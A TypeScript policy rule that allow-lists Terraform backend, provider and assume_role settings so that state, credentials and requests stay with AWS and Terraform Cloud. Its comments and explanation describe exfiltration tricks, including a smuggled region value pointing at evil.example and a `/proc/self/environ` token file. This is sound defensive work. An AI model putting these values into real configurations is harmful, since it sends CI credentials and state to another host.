import type { Rule, Violation } from "../types";

/**
 * Settings known to keep state, credentials and requests where they belong. Everything else is
 * refused rather than judged: a backend's or a provider's endpoint, proxy, CA bundle, region
 * string or token file sends the state, the requests or the job's tokens to another host
 * (`sts_region = "x@evil.example#"` does, with skip_region_validation).
 */
const TERRAFORM_KEYS = new Set(["required_providers", "required_version", "backend", "cloud"]);
const BACKEND_KEYS: Record<string, ReadonlySet<string>> = {
  local: new Set(["path"]),
  s3: new Set(["bucket", "key", "region", "encrypt", "kms_key_id", "use_lockfile", "dynamodb_table", "workspace_key_prefix", "assume_role"]),
  cloud: new Set(["organization", "workspaces", "hostname", "project"]),
  remote: new Set(["organization", "workspaces", "hostname"]),
};
const ASSUME_ROLE_KEYS = new Set(["role_arn", "session_name", "external_id", "duration", "source_identity"]);
const PROVIDER_KEYS: Record<string, ReadonlySet<string>> = {
  aws: new Set(["alias", "region", "allowed_account_ids", "forbidden_account_ids", "default_tags", "ignore_tags", "assume_role", "max_retries", "retry_mode"]),
  awscc: new Set(["alias", "region", "assume_role"]),
  tfe: new Set(["alias", "hostname", "organization"]),
};
/** A region as AWS names them (eu-west-1, us-gov-west-1, cn-north-1), or a Terraform reference to one. */
const REGION = /^([a-z]{2}(-gov|-iso[a-z]*)?-[a-z]+-\d|\$\{[^}]+\})$/;
const HOSTNAME = /^[a-z0-9]([a-z0-9-]*[a-z0-9])?(\.[a-z0-9]([a-z0-9-]*[a-z0-9])?)+$/i;

const entries = (value: unknown): [string, unknown][] => ([] as unknown[]).concat(value ?? []).flatMap((v) => (v && typeof v === "object" ? Object.entries(v as Record<string, unknown>) : []));
const unknownKeys = (body: unknown, allowed: ReadonlySet<string>) => entries(body).map(([key]) => key).filter((key) => !allowed.has(key) && key !== "//");

function assumeRoleProblems(value: unknown): string[] {
  return ([] as unknown[]).concat(value ?? []).flatMap((role) => {
    const extra = unknownKeys(role, ASSUME_ROLE_KEYS);
    const arn = (role as Record<string, unknown>)?.role_arn;
    return [...extra.map((k) => `assume_role.${k}`), ...(typeof arn === "string" && !/^(arn:aws[a-z-]*:iam::\d{12}:role\/\S+|\$\{[^}]+\})$/.test(arn) ? [`assume_role.role_arn ${arn}`] : [])];
  });
}

/** The Terraform Cloud or Enterprise hosts a stack talks to: its cloud or remote backend's, its tfe providers'. */
function tfcHosts(stack: { json: Record<string, any> }): { host: string; address: string }[] {
  const terraform = stack.json.terraform ?? {};
  const hostOf = (body: unknown) => String((body as Record<string, unknown> | undefined)?.hostname ?? "app.terraform.io");
  return [
    ...(terraform.cloud !== undefined ? [{ host: hostOf(terraform.cloud), address: "terraform.cloud" }] : []),
    ...(terraform.backend?.remote !== undefined ? [{ host: hostOf(terraform.backend.remote), address: "terraform.backend.remote" }] : []),
    ...([] as unknown[]).concat(stack.json.provider?.tfe ?? []).map((p) => ({ host: hostOf(p), address: "provider.tfe" })),
  ];
}

export const terraformSettingsKnown: Rule = {
  id: "APIGW-TERRAFORM-SETTINGS",
  severity: "error",
  message: "The terraform block, the backend and the provider configurations may use only settings known to keep state, credentials and requests with AWS and Terraform Cloud",
  explanation:
    "Terraform runs the backend and the providers at every init and plan, with the job's tokens and the plan role's credentials: a backend `http` (or any but local, s3, cloud and remote) writes the state, API key values included, to its host; an s3 backend's endpoints or `assume_role_with_web_identity` with a token file of `/proc/self/environ` sends the job's environment to another STS; a provider's `endpoints`, proxies, `custom_ca_bundle`, `insecure`, credentials files or a region that is not a region (`x@evil.example#` with skip_region_validation) send its signed requests elsewhere. Allowed: terraform { required_providers, required_version, backend, cloud }; backend local { path }, s3 { bucket, key, region, encrypt, kms_key_id, use_lockfile, dynamodb_table, workspace_key_prefix, assume_role }, cloud and remote { organization, workspaces, hostname, project }; provider aws { alias, region, allowed_account_ids, forbidden_account_ids, default_tags, ignore_tags, assume_role, max_retries, retry_mode }, awscc { alias, region, assume_role }, tfe { alias, hostname, organization }, with assume_role { role_arn (an IAM role ARN), session_name, external_id, duration, source_identity } and regions as AWS names them. Providers not listed take no settings. Checked together, the stacks must name one Terraform Cloud or Enterprise host: a stack whose cloud or remote backend, or tfe provider, names another than the others sends its runs and configuration there.",
  references: ["Terraform docs: Backend configuration (s3, http, remote, cloud)", "Terraform AWS provider docs: Authentication and configuration (endpoints, sts_region, custom_ca_bundle, http_proxy)"],
  check: (stack, all = [stack]) => {
    const violations: Violation[] = [];
    // Terraform Cloud or Enterprise: one host for every stack checked together. A stack whose
    // backend or tfe provider names another sends its runs (and the configuration) there.
    const hostCounts = new Map<string, number>();
    for (const other of all) for (const host of tfcHosts(other)) hostCounts.set(host.host, (hostCounts.get(host.host) ?? 0) + 1);
    const usual = [...hostCounts].sort((a, b) => b[1] - a[1])[0]?.[0];
    for (const { host, address } of tfcHosts(stack)) {
      if (hostCounts.size > 1 && host !== usual) violations.push({ address, detail: `names Terraform Cloud host ${host}, where the other stacks checked with it name ${usual}` });
    }
    const terraform = stack.json.terraform ?? {};
    const extra = unknownKeys(terraform, TERRAFORM_KEYS);
    if (extra.length) violations.push({ address: "terraform", detail: `sets ${extra.join(", ")}` });
    const backends: [string, unknown][] = [...entries(terraform.backend), ...(terraform.cloud !== undefined ? [["cloud", terraform.cloud] as [string, unknown]] : [])];
    for (const [kind, body] of backends) {
      const allowed = BACKEND_KEYS[kind];
      if (!allowed) {
        violations.push({ address: `terraform.backend.${kind}`, detail: `a ${kind} backend: only local, s3, cloud and remote keep state where the platform expects it` });
        continue;
      }
      const problems = [
        ...unknownKeys(body, allowed),
        ...entries(body).flatMap(([key, value]) => (key === "assume_role" ? assumeRoleProblems(value) : key === "region" && typeof value === "string" && !REGION.test(value) ? [`region ${value}`] : key === "hostname" && typeof value === "string" && !HOSTNAME.test(value) ? [`hostname ${value}`] : [])),
      ];
      if (problems.length) violations.push({ address: kind === "cloud" ? "terraform.cloud" : `terraform.backend.${kind}`, detail: `sets ${problems.join(", ")}` });
    }
    for (const [name, configs] of Object.entries<unknown>(stack.json.provider ?? {})) {
      for (const config of ([] as unknown[]).concat(configs)) {
        const body = (config ?? {}) as Record<string, unknown>;
        const problems = [
          ...unknownKeys(body, PROVIDER_KEYS[name] ?? new Set(["alias"])),
          ...(typeof body.region === "string" && !REGION.test(body.region) ? [`region ${body.region}`] : []),
          ...(typeof body.hostname === "string" && !HOSTNAME.test(body.hostname) ? [`hostname ${body.hostname}`] : []),
          ...assumeRoleProblems(body.assume_role),
        ];
        if (problems.length) violations.push({ address: `provider.${name}${typeof body.alias === "string" ? `.${body.alias}` : ""}`, detail: `sets ${problems.join(", ")}` });
      }
    }
    return violations;
  },
};
